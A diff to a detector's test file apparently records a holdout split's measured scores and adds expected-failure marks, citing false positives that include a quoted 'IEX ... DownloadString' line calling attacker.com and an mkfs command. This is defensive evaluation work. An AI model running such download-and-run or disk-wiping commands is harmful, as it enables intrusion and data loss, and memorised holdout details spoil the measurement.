@@ -135,8 +135,17 @@ chain's bare paths after one written under another folder's variable, are that s
 `../../CONNECTORS.md` link from a skill with `~~category` placeholders in no plugin is a
 starter's; a placeholder URL receiving an identity token in the Authorization header is the
 user's own endpoint. Left: the forensics lab's script run from its Hermes working folder.
-`holdout24` (12 more, chosen after `holdout23` had been measured once and then tuned on) has not
-been measured yet: it is the next honest measurement.
+`holdout24` (12 more, chosen after `holdout23` had been measured once and then tuned on) was
+measured once with the rules of that time (severe 0.877: 128 tp, 15 fp, 3 policy; security
+0.586, 17 of 29; 9 of 208 skills failing only on wrong or policy findings): the wrong ones are
+a penetration-testing collection's LinPEAS run on the target and download-and-run lines its
+scripts only print, `IEX ... DownloadString('http://attacker.com/...')` in a catalogue of
+persistence techniques, `mkfs` on a cheat sheet's placeholder device `/dev/sdXn`, scripts of
+the project layout a devops collection scaffolds into the user's repository, and a
+metadata-server call the user's workload makes; the policy ones are gcloud token commands in
+a cloud penetration test's reconnaissance block and a skill without frontmatter in a Claude
+Code-only marketplace. 8 units of vendor installers both readers read as policy were
+relabelled true, as 26 earlier units were read.
 The figures above are as read at each measurement. 153 findings of `holdout2` to `holdout13`
 first labelled artefact were read again after tests/corpus_wide/real_checkout.py showed a full
 checkout still gives them (117 true, 36 wrong); the README's table counts them.
@@ -296,7 +305,12 @@ def _unmet(figure: str) -> pytest.MarkDecorator:
 # are copied into, a gcloud identity token sent to a placeholder URL of the user's own
 # function) are 0.957 and 1.0 after tuning on it; its 3 skills failing only on wrong findings
 # are 0.
-SEVERE_UNMET: dict[str, pytest.MarkDecorator] = {}
+SEVERE_UNMET: dict[str, pytest.MarkDecorator] = {
+    "holdout24": _unmet("0.877 at its one measurement: LinPEAS run on a target and "
+                        "download-and-run lines scripts only print (SF506), mkfs on a "
+                        "placeholder device (SF505), scripts a devops collection scaffolds "
+                        "into the user's repository (SF116, SF301)"),
+}
 # holdout16's 0.657 severe at its one measurement (two frontmatter keys a repository's own
 # loader or router reads, scripts of the user's project) is 1.0 after tuning on it, once a
 # full checkout showed both keys as warnings naming the repository's documents.
@@ -332,7 +346,13 @@ SEVERE_UNMET: dict[str, pytest.MarkDecorator] = {}
 # inside the data it scores, `bypassPermissions` drawn in an example page, `uvx --from python`
 # on the skill's own script, an install line's skill name read as the user's session) is 1.0
 # after tuning on it.
-SECURITY_UNMET: dict[str, pytest.MarkDecorator] = {}
+SECURITY_UNMET: dict[str, pytest.MarkDecorator] = {
+    "holdout24": _unmet("0.586 (17 of 29) at its one measurement: a penetration-testing "
+                        "collection's attack catalogue and printed hints (SF506), a cheat "
+                        "sheet's placeholder device (SF505), gcloud token commands in a "
+                        "reconnaissance block (SF515, policy), a metadata-server call of the "
+                        "user's workload (SF508)"),
+}
 
 
 @pytest.mark.parametrize("split", [pytest.param(s, marks=SEVERE_UNMET.get(s, ()))
@@ -376,6 +396,9 @@ def test_no_finding_labelled_true_stops_being_severe(severe):
 # holdout22's 3 skills failing only on wrong findings at its one measurement (run outputs a
 # script's block or a sibling skill writes, a template's placeholder name) are 0 after tuning.
 ONLY_WRONG_LEFT: dict[str, pytest.MarkDecorator] = {
+    "holdout24": _unmet("9 of 208 at its one measurement: penetration-testing skills (4), a "
+                        "cheat sheet's mkfs, a devops collection's scaffolded scripts (3), a "
+                        "skill without frontmatter in a Claude Code-only marketplace"),
     "holdout12": _unmet("3: scripts of the user's infrastructure repository the text gives no "
                         "sign of being the user's (SF301; its 4 skills running the collection's "
                         "validator from the repository's top are warnings in a full checkout, "
